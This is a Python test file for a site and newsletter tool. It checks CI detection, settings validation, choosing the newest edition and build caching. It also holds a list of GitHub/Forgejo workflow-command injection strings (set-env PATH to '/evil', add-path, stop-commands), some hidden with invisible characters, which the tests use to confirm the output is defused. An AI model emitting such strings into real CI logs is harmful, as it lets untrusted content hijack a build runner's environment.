    tokens = MarkdownIt("commonmark").parse(told(Path("/site"), [path], [found]))
    fences = [token for token in tokens if token.type == "fence"]
    assert len(fences) == 1
    others = "".join(token.content for token in tokens if token.type == "inline")
    assert others == "**`content/posts/x.md`** has 1 error and no more to look at."


COMMANDS = (
    "::set-env name=PATH::/evil",
    "\t\u00a0 ::add-path::/evil",
    "\u200b:\u00ad:stop-commands::x",
    "words ##[set-env name=PATH;]/evil",
    "rewound\r::set-output name=x::y",
)


def test_no_word_of_a_stranger_is_a_command_to_the_runner(site, tmp_path):
    """Folded where the title breaks, and told in one piece; JSON says what it said."""
    title = f"{'Cranes ' * 12}and {'x' * 20} {' '.join(COMMANDS)}"
    entry = f"<item><guid>1</guid><title>{escape(title)}</title><link>https://one.example/1</link></item>"
    (tmp_path / "one.xml").write_text(FEED.replace("<item>", f"{entry}<item>", 1), encoding="utf-8")
    said = "import sys; from pipeline.cli import main; main()"
    for more in ((), ("--json",)):
        done = subprocess.run(
            [sys.executable, "-c", said, "feeds", "parse", str(tmp_path / "one.xml"), *more],
            env={**os.environ, "CI": "true", "PYTHONUTF8": "1"}, cwd=site, capture_output=True, check=True,
        )  # fmt: skip
        assert b"set-env" in done.stdout
        assert not any(map(is_a_command, re.split(rb"[\r\n]", done.stdout + done.stderr)))
    assert "##[set-env" in json.loads(done.stdout)["entries"][0]["title"]


def is_a_command(line):
    """As the runners of GitHub and Forgejo read, and a little beyond: what cannot be seen may count for nothing."""
    visible = bytes(sign for sign in line if 0x21 <= sign <= 0x7E)
    return visible.startswith(b"::") or b"##[" in line


ENDS = """
import atexit, sys
from pipeline.cli.defused import defuse_output, end_output
defuse_output()
atexit.register(end_output)
sys.stdout.write("a line that has no end")
"""


def test_at_the_end_nobody_may_read_any_more():
    reading, writing = os.pipe()
    os.close(reading)
    done = subprocess.run(
        [sys.executable, "-c", ENDS], stdout=writing, stderr=subprocess.PIPE, check=False, cwd=REPOSITORY
    )
    os.close(writing)
    assert (done.returncode, done.stderr) == (0, b"")


def test_lines_are_defused_however_they_come():
    """In pieces, with any end, and without one; whatever is no command is as it was."""
    whole = "".join(f"{line}\n" for line in COMMANDS) + "a::b ## [c]\r\nplain: ::x\n  :: last"
    for size in (1, 3, 1000):
        out = io.BytesIO()
        stream = Defused(out)
        for start in range(0, len(whole.encode()), size):
            stream.write(whole.encode()[start : start + size])
            stream.flush()
        assert b"last" not in out.getvalue()
        stream.end()
        said = out.getvalue()
        assert not any(map(is_a_command, re.split(rb"[\r\n]", said)))
        assert said.endswith(b"a::b ## [c]\r\nplain: ::x\n|   :: last")


@pytest.mark.parametrize(
    ("value", "is_thrown_away"), [("true", True), ("1", True), ("", False), ("false", False), ("0", False)]
)
def test_a_machine_that_is_thrown_away_is_known_by_ci(value, is_thrown_away, site):
    assert load(site, {"CI": value}).is_thrown_away is is_thrown_away


@pytest.mark.parametrize(
    ("environment", "refused"),
    [
        ({}, "DATABASE_URL"),
        ({"DATABASE_URL": "sqlite:////srv/byline.db"}, "DATABASE_URL"),
        ({"BYLINE_SEND_WAY": "buttondown"}, None),
        ({"BYLINE_SEND_WAY": "listmonk"}, None),
        ({"BYLINE_SEND_WAY": "postmark"}, "DATABASE_URL"),
        ({"DATABASE_URL": "postgres://ana@db.example/byline"}, None),
        ({"DATABASE_URL": "postgresql://ana@db.example/byline", **SERVED}, "BYLINE_TOKEN_KEYS"),
        ({"DATABASE_URL": "postgresql://ana@db.example/byline", **SERVED, "BYLINE_TOKEN_KEYS": "k" * 32}, None),
    ],
)
def test_what_must_outlive_a_machine_is_looked_for_before_a_letter_leaves_it(environment, refused, site):
    see_that_it_lasts(load(site, environment), "x")  # at home nothing of it matters
    settings = load(site, environment | {"CI": "true"})
    if refused is None:
        see_that_it_lasts(settings, "x")
    else:
        with pytest.raises(UsageError, match=refused):
            see_that_it_lasts(settings, "x")


@pytest.mark.parametrize("words", [("--due",), ("x", "--at", "2026-12-01T08:00")])
def test_what_is_planned_on_a_machine_that_is_thrown_away_would_be_forgotten(words, site, byline, monkeypatch):
    (site / "content/posts/2026-11-23-x.md").write_text(POST.format(date="2026-11-23", title="X"), encoding="utf-8")
    assert byline("send", *words, at=site)[0] == 0
    monkeypatch.setenv("CI", "true")
    code, _, err = byline("send", *words, at=site)
    assert (code, "DATABASE_URL" in err) == (2, True)


def test_the_newest_edition_is_that_of_these_days_on_the_site(site, open_app, byline):
    app = open_app(site)
    with pytest.raises(UsageError, match="no edition"):
        app.letters.newest()
    for day in ("2026-11-01", "2026-11-30"):  # one too old, one of the days to come
        (site / f"content/posts/{day}-x.md").write_text(POST.format(date=day, title="X"), encoding="utf-8")
    with pytest.raises(UsageError, match="2026-11-01-x"):
        app.letters.newest()
    for day in ("2026-11-20", "2026-11-22"):
        (site / f"content/posts/{day}-x.md").write_text(POST.format(date=day, title="X"), encoding="utf-8")
    assert app.letters.newest().stem == "2026-11-22-x"
    for words, why in (("2026-11-20-x", "is not the newest edition"), ("", "may be any of"), ("--yes", "no post")):
        code, _, err = byline("send", "--newest", "--dry-run", "--", words, at=site)
        assert (code, why in err) == (2, True), err
    assert byline("send", "--newest", "--dry-run", "--built-elsewhere", "--", "2026-11-22-x", at=site)[0] == 0


def test_a_clean_clone_with_the_cache_of_the_last_run_builds_nothing_anew(begun, tmp_path):
    _, runner = begun("github")
    place = tmp_path / "job/site"
    place.parent.mkdir()
    built = []
    for cached in (False, True):
        runner.said = ""
        git(place.parent, "clone", "--quiet", runner.forge.bare, place)
        kept = f"tar -xf {tmp_path}/cache.tar" if cached else "python -m pip install -r requirements.txt"
        assert (
            runner.shell(
                f"{kept}\nbyline publish --strict --json\ntar -cf {tmp_path}/cache.tar .byline/work", place, {}
            )
            == 0
        )
        built.append(json.loads(runner.said))
        rmtree(place)
    assert built[0]["fresh"] > 5
    assert built[1] == built[0] | {"fresh": 0}
